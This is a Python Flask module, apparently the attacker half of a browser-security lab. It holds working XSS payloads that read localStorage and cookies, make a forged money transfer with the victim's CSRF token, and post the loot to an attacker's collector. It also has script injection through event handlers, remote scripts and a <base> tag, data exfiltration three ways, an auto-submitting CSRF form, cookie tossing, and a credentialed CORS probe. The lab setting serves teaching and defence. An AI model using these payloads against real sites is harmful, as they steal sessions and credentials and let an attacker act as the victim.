"""The attacker's side of the browser lab: a collector, hostile pages, and the XSS payloads themselves."""

from __future__ import annotations

import html
import json
from dataclasses import dataclass, field
from typing import Any

from flask import Flask, Response, jsonify, request

#: What the injected script does after reading storage, for each way the SPA can hold its login.
_ABUSE = {
    "token": "",
    "cookie": """const me = await (await fetch("/cookie/me")).json();
    loot.acted = await (await fetch("/cookie/transfer", {method: "POST", headers: {"Content-Type": "application/json",
      "X-CSRF-Token": me.csrf_token}, body: JSON.stringify({to: "mallory", amount: 500})})).json();""",
    "refresh-cookie": """loot.acted = await (await fetch("/rt/refresh", {method: "POST"})).json();""",
    "bff": """loot.acted = await (await fetch("/bff/api/me")).json();""",
}


def steal(kind: str, collect_url: str) -> str:
    """The injected payload: read every store script can read, act as the user, send it all to the collector."""
    return f"""<script>(async () => {{
  const loot = {{localStorage: {{...localStorage}}, cookie: document.cookie}};
  try {{ {_ABUSE[kind]} }} catch (e) {{ loot.error = String(e); }}
  await fetch("{collect_url}", {{method: "POST", mode: "no-cors", body: JSON.stringify(loot)}});
}})()</script>"""


def inline_script(collect_url: str) -> str:
    """An injected inline ``<script>`` that reports itself."""
    return f"""<script>fetch("{_with(collect_url, "ran=inline+script")}", {{mode: "no-cors"}})</script>"""


def event_handler(collect_url: str) -> str:
    """An injected element whose inline event handler runs script (no ``<script>`` tag needed)."""
    report = _with(collect_url, "ran=event+handler")
    return f"""<img src="/nowhere.png" onerror='fetch("{report}", {{mode: "no-cors"}})'>"""


def remote_script(attacker_url: str, run: str = "") -> str:
    """An injected ``<script src>`` pointing at the attacker's host (a "CDN" some policies allow)."""
    return f"""<script src="{attacker_url}/cdn/steal.js?run={run}"></script>"""


def base_hijack(attacker_url: str) -> str:
    """An injected ``<base>``: the page's own nonce-bearing ``/static/app.js`` now loads from the attacker."""
    return f"""<base href="{attacker_url}/">"""


def exfiltrate(collect_url: str) -> str:
    """Send ``document.title`` out three ways: ``fetch``, an image, and a top-level navigation."""
    return f"""<script>
  const t = encodeURIComponent(document.title);
  fetch("{_with(collect_url, "via=fetch")}&t=" + t, {{mode: "no-cors"}}).catch(() => {{}});
  new Image().src = "{_with(collect_url, "via=image")}&t=" + t;
  setTimeout(() => {{ location = "{_with(collect_url, "via=navigation")}&t=" + t; }}, 200);
</script>"""


def _with(url: str, query: str) -> str:
    """``url`` with ``query`` appended to its query string."""
    return f"{url}{'&' if '?' in url else '?'}{query}"


@dataclass
class Loot:
    """Everything the collector received: the query of each request and the JSON body, if any."""

    items: list[dict[str, Any]] = field(default_factory=list)


def _page(body: str) -> Response:
    return Response(f"<!doctype html><html><head><meta charset='utf-8'><title>a page you should not trust</title>"
                    f"</head><body>{body}</body></html>", mimetype="text/html")


def create_attacker_app(loot: Loot) -> Flask:
    """Pages that make the victim's browser send requests, and ``/collect``, where stolen data lands."""
    app = Flask("authkit.lab.attacker")

    @app.route("/collect", methods=["GET", "POST"])
    def collect() -> Response:
        """Keep whatever arrives."""
        item: dict[str, Any] = dict(request.args)
        data = request.get_data(as_text=True)
        if data:
            try:
                item["body"] = json.loads(data)
            except ValueError:
                item["body"] = data
        loot.items.append(item)
        return Response("thanks", mimetype="text/plain")

    @app.get("/cdn/steal.js")
    def cdn_script() -> Response:
        """Any script a "CDN" will host: here, one that reports itself."""
        run = request.args.get("run", "")
        return Response(f'fetch("{request.host_url}collect?run={run}&ran=remote+script", {{mode: "no-cors"}});',
                        mimetype="text/javascript")

    @app.get("/static/app.js")
    def hijacked_app_script() -> Response:
        """What a page with an injected ``<base>`` loads in place of its own ``/static/app.js``."""
        report = f"{request.host_url}collect?ran=hijacked+app.js&page="
        return Response(f'window.bank = {{start() {{ window.appReady = true; }}}};\n'
                        f'fetch("{report}" + encodeURIComponent(location.href), {{mode: "no-cors"}});',
                        mimetype="text/javascript")

    @app.get("/form")
    def auto_form() -> Response:
        """A form that POSTs the query's fields to ``action`` as soon as the page loads."""
        fields = {k: v for k, v in request.args.items() if k != "action"}
        inputs = "".join(f'<input type="hidden" name="{html.escape(k)}" value="{html.escape(v)}">'
                         for k, v in fields.items())
        action = html.escape(request.args["action"])
        return _page(f'<form id="f" method="POST" action="{action}">{inputs}</form>'
                     '<script>document.getElementById("f").submit()</script>')

    @app.get("/link")
    def link() -> Response:
        """A link to ``href``, for the victim to click."""
        return _page(f'<a id="go" href="{html.escape(request.args["href"])}">win a prize</a>')

    @app.get("/embed")
    def embed() -> Response:
        """An image and a credentialed ``fetch`` to the target: cross-site subrequests."""
        target = request.args["target"]
        img = html.escape(f"{target}?case=image")
        return _page(f'<img src="{img}">'
                     f'<script>fetch({json.dumps(target + "?case=fetch")}, '
                     '{credentials: "include", mode: "no-cors"})</script>')

    @app.get("/toss")
    def toss() -> Response:
        """Cookies named ``name`` for the victim's whole domain, one at the root and one on a deeper path."""
        name, domain = request.args["name"], request.args.get("domain")
        scope = f"; Domain={domain}" if domain else ""
        response = jsonify(tossed=name)
        response.headers.add("Set-Cookie", f"{name}=evil; Secure; Path=/{scope}")
        response.headers.add("Set-Cookie", f"{name}=evil-deeper; Secure; Path=/lab{scope}")
        return response

    @app.get("/cors")
    def cors_probe() -> Response:
        """Read three of the bank's answers from this origin and send what could be read to the collector."""
        target = request.args["target"]
        urls = {"bearer API /me": f"{target}/bearer/me", "account, no CORS headers": f"{target}/lab/account",
                "account, Origin reflected": f"{target}/lab/account?cors=reflect"}
        return _page(f"""<script>(async () => {{
  const urls = {json.dumps(urls)};
  const read = {{}};
  for (const [name, url] of Object.entries(urls)) {{
    try {{ read[name] = await (await fetch(url, {{credentials: "include"}})).json(); }}
    catch (e) {{ read[name] = "blocked: " + e.name; }}
  }}
  await fetch("/collect", {{method: "POST", body: JSON.stringify(read)}});
}})()</script>""")

    return app
